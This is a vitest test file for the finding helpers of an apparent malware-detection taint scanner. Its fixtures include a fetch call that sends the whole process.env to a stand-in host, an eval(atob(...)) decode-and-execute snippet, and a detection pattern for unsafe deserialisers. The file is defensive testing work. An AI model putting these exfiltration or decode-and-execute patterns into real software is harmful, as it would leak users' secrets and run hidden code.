import { describe, expect, it } from 'vitest';
import { testBuild, testFacts } from '../test-build.ts';
import type { Fact } from '../taint/api.ts';
import { DECODED, ENVIRONMENT, FETCHED } from '../taint/label.ts';
import { UNKNOWN } from '../taint/value.ts';
import {
  LOADERS,
  fileAt,
  found,
  isFar,
  isFromHere,
  quote,
  whatFlows,
  whereTo,
} from './fact-finding.ts';

function fact(code: string, action: Fact['action']): Fact {
  return testFacts(code).find((one) => one.action === action)!;
}

describe('found()', () => {
  const build = testBuild({ 'a.js': "\n\n  fetch('https://a.com');\n" });
  const [sent] = build.taint.facts;

  it('puts a finding at the place of a fact', () => {
    expect(found(build, 'credential-theft', sent!, { what: 'x', host: 'y' }, 'warn')).toMatchObject(
      {
        code: 'credential-theft',
        file: 'a.js',
        level: 'warn',
        place: { line: 3, column: 3 },
      },
    );
  });

  it('marks at most 200 characters', () => {
    const place = { path: 'a.js', at: 0, end: 10_000 };
    expect(found(build, 'env-undeclared', place, { name: 'A' }).place?.length).toBe(200);
  });

  it('has no place where the build has no such file', () => {
    const place = { path: 'b.js', at: 0, end: 1 };
    expect(found(build, 'env-undeclared', place, { name: 'A' }).place).toBeUndefined();
  });
});

it('fileAt() gives the file of a fact', () => {
  const build = testBuild({ 'a.js': 'text', 'b.js': '' });
  expect(fileAt(build, { path: 'b.js' })).toBe(build.files[1]);
});

describe('whatFlows()', () => {
  it('names the origins of the labels that are wanted', () => {
    const sent = fact("fetch('https://a.com', { body: JSON.stringify(process.env) })", 'send');
    expect(whatFlows(sent, ENVIRONMENT)).toBe('process.env');
    expect(whatFlows(sent, FETCHED)).toBe('');
  });
});

describe('isFromHere(), isFar()', () => {
  const here = fact("eval(atob('YQ=='))", 'execute');

  it('knows what comes from the same file', () => {
    expect(isFromHere(here, DECODED)).toBe(true);
    expect(isFromHere(here, FETCHED)).toBe(false);
    expect(isFromHere({ ...here, path: 'b.js' }, DECODED)).toBe(false);
  });

  it('holds only bundles to their own file', () => {
    expect(isFar(here, DECODED)).toBe(false);
    expect(isFar({ ...here, isLarge: true }, DECODED)).toBe(false);
    expect(isFar({ ...here, isLarge: true, path: 'b.js' }, DECODED)).toBe(true);
    expect(isFar({ ...here, path: 'b.js' }, DECODED)).toBe(false);
  });
});

describe('LOADERS', () => {
  it.each(['pickle.loads', 'marshal.loads', 'yaml.load'])('%s makes objects of data', (api) => {
    expect(LOADERS.test(api)).toBe(true);
  });

  it.each(['json.loads', 'eval', 'vm.runInContext'])('%s does not', (api) => {
    expect(LOADERS.test(api)).toBe(false);
  });
});

describe('quote()', () => {
  it.each([
    ['a\n b\t\u202Ec', 'a b c'],
    [`curl ${UNKNOWN}/x`, 'curl */x'],
    ['  a  ', 'a'],
    ['a'.repeat(101), `${'a'.repeat(100)}...`],
  ])('%j: %j', (text, quoted) => {
    expect(quote(text)).toBe(quoted);
  });
});

describe('whereTo()', () => {
  it.each([
    ["fetch('https://a.com/x')", 'a.com'],
    ["fetch('/x')", '/x'],
    ['fetch(address)', 'an address that the code makes up'],
  ])('%s: %s', (code, where) => {
    expect(whereTo(fact(code, 'send'))).toBe(where);
  });
});
